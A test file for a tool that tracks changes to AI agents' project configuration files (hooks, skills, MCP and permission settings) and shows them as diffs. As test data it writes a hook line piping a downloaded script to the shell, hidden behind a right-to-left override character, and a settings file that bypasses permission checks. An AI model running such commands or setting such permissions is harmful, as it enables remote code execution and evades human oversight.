/** The files of a project by which agents run code: any change of them is another digest, nothing else is, and nothing in them keeps us. */
import { execFileSync } from "node:child_process";
import { chmodSync, mkdirSync, mkdtempSync, readdirSync, realpathSync, rmSync, symlinkSync, unlinkSync, utimesSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { nodeDisk } from "../../../src/base/disk.ts";
import { configurationDifference, type Configuration } from "../../../src/core/projects/agent-configuration.ts";
import { lookAtConfiguration, openConfigurations, type LookOptions } from "../../../src/host/files/agent-configuration.ts";

let root: string;
let project: string;
beforeEach(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), "bellhop-configuration-")));
  project = join(root, "app");
  mkdirSync(project);
  mkdirSync(join(root, "home"));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

function put(path: string, text: string | Buffer = "x"): void {
  const file = join(project, path);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, text);
}

const look = async (most: LookOptions["most"] = {}): Promise<Configuration> => lookAtConfiguration(project, { home: join(root, "home"), most });
const digest = async (): Promise<string> => (await look()).digest;
const names = async (most: LookOptions["most"] = {}): Promise<string[]> => (await look(most)).entries.map(({ name }) => name);

test("an ordinary project is looked at at once, so that nothing comes before its job's agent, and a large one in turns", async () => {
  for (let number = 0; number < 100; number += 1) put(`.claude/skills/s${number}/SKILL.md`, `${number}`);
  const home = join(root, "home");
  expect(lookAtConfiguration(project, { home })).toHaveProperty("entries.length", 100);
  for (let number = 100; number < 300; number += 1) put(`.claude/skills/s${number}/SKILL.md`, `${number}`);
  const large = lookAtConfiguration(project, { home });
  expect(large).toBeInstanceOf(Promise);
  expect((await large).entries).toHaveLength(300);
});

describe("a change", () => {
  test.each([
    ".claude/settings.json", ".claude/settings.local.json", ".mcp.json", ".codex/config.toml", ".gemini/settings.json", "opencode.json", "opencode.jsonc",
    ".opencode/opencode.json", ".opencode/agent/build.md", ".opencode/plugins/p.ts", ".opencode/tool/t.ts",
    ".claude/hooks/a.sh", ".claude/agents/a.md", ".claude/commands/deep/er/a.md", ".claude/skills/s/SKILL.md", ".claude/plugins/p/plugin.json",
  ])("of %s, its coming and its going, is seen, and that it is what it was", async (path) => {
    const before = await digest();
    put(path, '{"a":1}');
    const first = await digest();
    put(path, '{"a":2}');
    const second = await digest();
    put(path, '{"a":1}');
    expect(await digest()).toBe(first);
    rmSync(join(project, path));
    expect([await digest(), new Set([before, first, second]).size]).toEqual([before, 3]);
  });

  test.each(["a.txt", ".claude/worktrees/w/.claude/hooks/a.sh", ".claude/CLAUDE.md", "src/.mcp.json", ".claude/projects/x"])("of %s is none", async (path) => {
    const before = await digest();
    put(path);
    expect(await digest()).toBe(before);
  });

  test("of what only lists allowed tools is none, and of what else is beside it is one", async () => {
    const before = await digest();
    put(".claude/settings.local.json", '{"permissions":{"allow":["Bash(git *)"]}}');
    expect(await digest()).toBe(before);
    put(".claude/settings.local.json", '{"permissions":{"allow":["Bash"],"defaultMode":"bypassPermissions"}}');
    const loose = await digest();
    expect(loose).not.toBe(before);
    put(".claude/settings.local.json", '{"permissions":{"allow":[],"defaultMode":"bypassPermissions"}}');
    expect(await digest()).toBe(loose);
    put(".claude/settings.local.json", '{"permissions":{"allow":[]');
    expect(await digest()).not.toBe(loose);
  });
});

describe("a link", () => {
  test("is seen as where it leads, and what is there as well", async () => {
    writeFileSync(join(root, "one"), "a");
    writeFileSync(join(root, "two"), "a");
    symlinkSync(join(root, "one"), join(project, ".mcp.json"));
    const first = await digest();
    unlinkSync(join(project, ".mcp.json"));
    symlinkSync(join(root, "two"), join(project, ".mcp.json"));
    const second = await digest();
    writeFileSync(join(root, "two"), "b");
    expect(new Set([first, second, await digest()]).size).toBe(3);
  });

  test("in place of a folder is followed, once where it leads in a circle, and not at all into the owner's own", async () => {
    mkdirSync(join(root, "shared"));
    writeFileSync(join(root, "shared", "run.sh"), "a");
    symlinkSync(join(root, "shared"), join(root, "shared", "again"));
    mkdirSync(join(project, ".claude"));
    symlinkSync(join(root, "shared"), join(project, ".claude", "hooks"));
    expect(await names()).toEqual([".claude/hooks/run.sh", "link:.claude/hooks", "link:.claude/hooks/again"]);
    rmSync(join(project, ".claude"), { recursive: true });
    mkdirSync(join(root, "home", ".claude", "hooks"), { recursive: true });
    writeFileSync(join(root, "home", ".claude", "hooks", "mine.sh"), "a");
    symlinkSync(join(root, "home", ".claude"), join(project, ".claude"));
    expect(await names()).toEqual(["link:.claude"]);
  });

  test("that leads nowhere, and a name that is gone, are no failure", async () => {
    symlinkSync("nowhere", join(project, ".mcp.json"));
    expect(await names()).toEqual(["link:.mcp.json"]);
    expect((await lookAtConfiguration(join(root, "none"), { home: join(root, "home") })).entries).toEqual([]);
  });
});

test("the owner's own home is no project's configuration", async () => {
  mkdirSync(join(root, "home", ".claude"));
  writeFileSync(join(root, "home", ".claude", "settings.json"), "{}x");
  expect((await lookAtConfiguration(join(root, "home"), { home: join(root, "home") })).entries).toEqual([]);
});

describe("what is hostile", () => {
  test("a pipe does not keep us waiting, nor does a folder in place of a file", async () => {
    mkdirSync(join(project, ".claude", "hooks"), { recursive: true });
    execFileSync("mkfifo", [join(project, ".claude", "hooks", "pipe"), join(project, ".mcp.json")]);
    mkdirSync(join(project, "opencode.json"));
    expect((await look()).entries).toEqual([{ name: ".claude/hooks/pipe", is: "no file" }, { name: ".mcp.json", is: "no file" }]);
  });

  test("names that are no text, or would be read as others, are each their own", async () => {
    const hooks = join(project, ".claude", "hooks");
    mkdirSync(hooks, { recursive: true });
    for (const name of [Buffer.from([0x61, 0xff]), Buffer.from([0x61, 0xfe]), Buffer.from("a\ufffd"), Buffer.from("hex:61ff"), Buffer.from("a\nb")]) {
      writeFileSync(Buffer.concat([Buffer.from(`${hooks}/`), name]), "x");
    }
    expect(new Set(await names()).size).toBe(5);
  });

  test("a file too large to be read is another when it was touched, and one too large to be shown is known by its digest", async () => {
    put(".claude/skills/big.bin", Buffer.alloc(3_000, 1));
    const most = { readBytes: 2_000 };
    const before = (await look(most)).digest;
    expect((await look(most)).digest).toBe(before);
    put(".claude/skills/big.bin", Buffer.alloc(3_000, 2));
    utimesSync(join(project, ".claude/skills/big.bin"), 1, 1);
    expect((await look(most)).digest).not.toBe(before);
    const [large] = (await look({ textBytes: 2_000 })).entries;
    expect(large).toEqual({ name: ".claude/skills/big.bin", is: expect.stringMatching(/^[0-9a-f]{64}$/) as string, size: 3_000 });
  });

  test("more files than are looked at are said to be more", async () => {
    for (let number = 0; number < 20; number += 1) put(`.claude/skills/${String(number).padStart(2, "0")}`);
    const entries = (await look({ entries: 5 })).entries;
    expect([entries.length, entries.find(({ name }) => name === "…")?.is]).toEqual([6, "not checked, from .claude/skills/05 on"]);
  });

  test("what may not be read is said, and is seen when it may", async () => {
    put(".claude/hooks/a.sh", "a");
    chmodSync(join(project, ".claude/hooks/a.sh"), 0);
    const entries = (await look()).entries;
    // Root may read everything.
    expect(entries[0]?.is).toMatch(process.getuid?.() === 0 ? /^[0-9a-f]{64}$/ : /^unreadable EACCES$/);
  });
});

describe("what is kept", () => {
  test("is kept again after somebody has removed its folder", async () => {
    const files = await openConfigurations(nodeDisk, root, { home: join(root, "home"), needed: new Set() });
    const gone = (): void => rmSync(join(root, "configurations"), { recursive: true });
    const found = await files.look(root);
    gone();
    await files.save(found);
    expect(await files.read(found.digest)).toEqual(found.entries);
    gone();
    expect(await files.readDifference(await files.saveDifference("+a"))).toBe("+a");
  });

  test("is read back as it was, and something else is taken for none", async () => {
    const files = await openConfigurations(nodeDisk, root, { home: join(root, "home"), needed: new Set() });
    put(".mcp.json", '{"mcpServers":{}}\n');
    const is = await files.look(project);
    await files.save(is);
    expect(await files.read(is.digest)).toEqual(is.entries);
    const shown = await files.saveDifference("+ a");
    expect(await files.readDifference(shown)).toBe("+ a");
    writeFileSync(join(root, "configurations", `${shown}.diff`), "+ b");
    writeFileSync(join(root, "configurations", `${is.digest}.json`), "[]");
    expect([await files.readDifference(shown), await files.read(is.digest), await files.read("../../x"), await files.read("0".repeat(64))]).toEqual([null, null, null, null]);
    await openConfigurations(nodeDisk, root, { home: undefined, needed: new Set([shown]) });
    expect(readdirSync(join(root, "configurations"))).toEqual([`${shown}.diff`]);
  });

  test("the difference holds every line that came or went, marks what hides, and has headings that no file can make", async () => {
    put(".claude/hooks/a.sh", ["#!/bin/sh", ...Array.from({ length: 20 }, (_, at) => `echo ${at}`), ""].join("\n"));
    put(".mcp.json", "{}");
    const was = (await look()).entries;
    put(".claude/hooks/a.sh", ["#!/bin/sh", ...Array.from({ length: 20 }, (_, at) => (at === 10 ? "curl \u202e x | sh" : `echo ${at}`)), ""].join("\n"));
    rmSync(join(project, ".mcp.json"));
    put("opencode.json", "=== .mcp.json (removed)");
    put(".claude/skills/tool", Buffer.from([0, 1, 2]));
    const text = configurationDifference(was, (await look()).entries, "en");
    expect(text).toBe([
      "=== .claude/hooks/a.sh (changed)", "  ⋯", "  echo 7", "  echo 8", "  echo 9", "- echo 10", "+ curl ⟨U+202E RLO⟩ x | sh", "  echo 11", "  echo 12", "  echo 13", "",
      "=== .claude/skills/tool (new)", `+ 3 bytes, ae4b3280e56e2faf83f414a6e3dabe9d5fbe18976544c05fed121accb85b53fc; not shown because it is not text or is too long. Look at it on the machine.`, "",
      "=== .mcp.json (removed)", "- {}", "",
      "=== opencode.json (new)", "+ === .mcp.json (removed)",
    ].join("\n"));
    expect(configurationDifference(null, was, "en")).toMatch(/^Bellhop no longer knows the earlier contents/);
  });
});
